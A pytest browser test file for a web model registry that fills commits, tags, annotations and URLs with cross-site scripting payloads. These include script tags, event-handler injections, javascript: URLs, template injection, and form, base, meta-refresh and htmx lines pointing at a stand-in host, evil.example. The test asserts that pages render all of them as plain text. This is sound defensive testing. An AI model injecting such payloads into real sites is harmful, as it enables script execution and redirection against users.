"""Names and messages that want to act: on every page, in every dialog, they are text."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator

import pytest

from tests.browser.accessibility import barriers, goes_beyond_its_width
from tests.browser.conftest import Visit
from tests.browser.reading import PHONE
from tests.browser.served import Served, serving
from tests.browser.world import World, begun
from tests.faces.corpora import tags, values

ACTING = (
    "<script>window.__hacked=1</script>",
    "<img src=x onerror=window.__hacked=1>",
    '"><svg onload=window.__hacked=1>',
    "' onmouseover=window.__hacked=1 x='",
    "javascript:window.__hacked=1",
    "</textarea></select></title><script>window.__hacked=1</script>",
    "{{constructor.constructor('window.__hacked=1')()}}",
    "<a href='javascript:window.__hacked=1' id=dialog name=csrf>x</a>",
    "<form action=https://evil.example/><input name=csrf></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<b hx-get=https://evil.example/ hx-trigger=load>x</b>",
)
NAMES = ("a" * 120, "deep/er/and/deeper/" + "n" * 60, "-dash", "0", "true", "constructor", "__proto__", "con", "x-1")
STAGES = ("prod", "s" * 60, "constructor", "a/b/c")
ANNOTATIONS = """\
artifacts:
  hostile:
    path: {path}
    type: {type}
    desc: {text}
    labels: [{text}, {text}]
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A registry in which whatever may be any text is one that wants to act."""
    world = begun(tmp_path_factory.mktemp("hostile") / "world")
    _fill(world)
    with serving(world) as served:
        yield served


def _fill(world: World) -> None:
    clone = world.clone
    text = _quoted("\n".join(ACTING))
    files = {"dvc.yaml": ANNOTATIONS.format(path=_quoted(ACTING[0]), type=_quoted(ACTING[1]), text=text)}
    clone.commit({**files, "metrics.json": '{"<script>window.__hacked=1</script>": 0.5, "a": 1e308}'})
    for number, told in enumerate((*ACTING, *values().values())):
        clone.commit(message=told.replace("\0", ""))
        who = (told.translate(str.maketrans("", "", "<>\n\r\0"))[:80] or "x", "x@example.com")
        clone.tag(f"hostile@v1.0.{number}", message=told or "x", tagger=who)
        clone.tag(f"hostile#prod#{number + 1}", message=told or "x", tagger=who)
    for name in NAMES:
        if _may_be(f"{name}@v1.0.0"):
            clone.tag(f"{name}@v1.0.0")
            for stage in STAGES:
                clone.tag(f"{name}#{stage}#1")
    for name in tags():
        if _may_be(name):
            clone.tag(name)
    clone.git("push", "--quiet", "origin", "main", "--tags")


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def _may_be(tag: str) -> bool:
    """Whether git takes the name, and the shell's command line, too."""
    if "\0" in tag or tag.startswith("-") or len(tag) > 200:
        return False
    asked = ["git", "check-ref-format", f"refs/tags/{tag}"]
    return subprocess.run(asked, check=False, capture_output=True).returncode == 0


PATHS = (
    "/models",
    "/models?text=%3Cscript%3Ewindow.__hacked%3D1%3C/script%3E",
    "/models?stage=%22%3E%3Cimg%20src%3Dx%20onerror%3Dwindow.__hacked%3D1%3E&type=%27&sort=x&page=-1&dir=%00",
    "/m/hostile",
    "/m/%3Cscript%3Ewindow.__hacked=1%3C/script%3E",
    "/m/" + "a" * 120,
    "/m/constructor",
    "/do/assign?model=hostile",
    "/do/assign?model=%3Cscript%3Ewindow.__hacked%3D1%3C/script%3E&stage=%22%3E%3Cimg%20src=x%20onerror=window.__hacked=1%3E",
    "/do/lock?model=hostile&stage=%27%22%3E%3Csvg%20onload=window.__hacked=1%3E",
    "/do/%3Cscript%3Ewindow.__hacked=1%3C%2Fscript%3E",
    "/started?tag=%3Cscript%3Ewindow.__hacked=1%3C/script%3E",
    "/runs/%3Cscript%3E",
)


@pytest.mark.parametrize("path", PATHS)
def test_it_is_only_text(hostile: Served, visit: Visit, path: str) -> None:
    page = visit(hostile.address, allowed=("status of 4",))
    page.goto(hostile.at(path))
    page.wait_for_load_state("networkidle")
    for folded in page.locator("details:not([open]) > summary").all():
        if folded.is_visible():
            folded.click()
    page.mouse.move(200, 400)
    assert page.evaluate("window.__hacked") is None
    assert page.url.startswith(hostile.home)
    made = page.evaluate(
        """() => ({
          scripts: [...document.scripts].map(one => one.getAttribute('src')),
          handlers: [...document.querySelectorAll('*')]
            .filter(one => [...one.attributes].some(each => each.name.startsWith('on'))).length,
          framed: document.querySelectorAll('iframe, object, embed, base, meta[http-equiv=refresh]').length,
          away: [...document.querySelectorAll('[href], [src], [action], [hx-get], [hx-post]')]
            .flatMap(one => ['href', 'src', 'action', 'hx-get', 'hx-post'].map(name => one.getAttribute(name)))
            .filter(to => to && /^(?!https?:)[a-z]+:|evil/i.test(to)),
        })"""
    )
    assert all(script and script.startswith("/static/") for script in made["scripts"])
    assert (made["handlers"], made["framed"], made["away"]) == (0, 0, [])


@pytest.mark.parametrize("path", ["/models", "/m/hostile", "/m/" + "a" * 120])
def test_long_names_break_no_page(hostile: Served, visit: Visit, path: str) -> None:
    for size in (PHONE, (1280, 900)):
        page = visit(hostile.address, size=size)
        page.goto(hostile.at(path))
        page.wait_for_load_state("networkidle")
        assert goes_beyond_its_width(page) == []
        assert barriers(page) == []
